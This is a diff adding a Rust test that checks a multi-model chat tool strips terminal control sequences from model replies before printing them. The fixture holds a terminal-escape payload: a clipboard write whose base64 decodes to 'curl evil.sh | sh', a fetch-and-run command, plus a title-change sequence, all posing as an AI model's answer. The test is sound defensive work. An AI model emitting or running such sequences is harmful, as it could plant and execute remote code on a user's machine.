@@ -262,3 +262,35 @@ fn the_hook_asks_several_models_and_blocks_only_what_they_agree_on() {
     assert_eq!(r.code, 2);
     assert!(r.stderr.contains("at least two models"), "{}", r.stderr);
 }
+
+#[test]
+fn terminal_controls_in_the_models_answers_are_made_inert_on_the_terminal() {
+    let p = changed_project();
+    let fake = fake();
+    let v = vars(&fake);
+    let hostile = "Sure.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}]0;owned\u{7}\u{9b}8m done";
+    fake.respond_with(move |r| {
+        let text = if r
+            .system_text()
+            .contains("You combine the independent answers")
+        {
+            format!("SYNTHESIS {hostile}")
+        } else {
+            format!("{} says {hostile}", r.model.clone().unwrap_or_default())
+        };
+        // The model version is Gemini's text too, and the reply names each model by it.
+        Some(Script::text(text).model_version("evil\u{1b}]52;c;eA==\u{7}"))
+    });
+    let r = run(gemini_mcp(&p.root, &with(&v)).args(["chat", "Is add right?", "--models", MODELS]));
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(r.stdout.contains("SYNTHESIS Sure."), "{}", r.stdout);
+    assert!(
+        r.stdout.contains("## Consensus of 2 models"),
+        "{}",
+        r.stdout
+    );
+    for out in [&r.stdout, &r.stderr] {
+        assert!(!out.contains("\u{1b}]"), "{out:?}");
+        assert!(!out.contains(['\u{7}', '\u{9b}']), "{out:?}");
+    }
+}
